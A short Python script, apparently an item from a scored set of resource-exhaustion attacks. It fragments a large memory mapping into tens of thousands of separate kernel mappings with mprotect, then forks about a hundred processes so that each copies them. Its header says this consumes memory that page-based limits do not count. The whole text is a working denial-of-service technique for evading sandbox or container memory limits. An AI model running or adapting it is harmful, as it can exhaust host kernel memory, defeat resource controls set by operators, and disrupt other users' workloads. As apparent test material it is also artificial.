# why: as many mappings as a process may have, copied into a hundred processes: memory that no limit on pages counts
# earns: 7
import ctypes, os, time
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
place = libc.mmap(None, 4096 * 140_000, 3, 0x4022, -1, 0)
for page in range(0, 126_000, 2):
    libc.mprotect(ctypes.c_void_p(place + page * 4096), 4096, 1)
for _ in range(100):
    try:
        if os.fork() == 0:
            break
    except OSError:
        break
time.sleep(30)
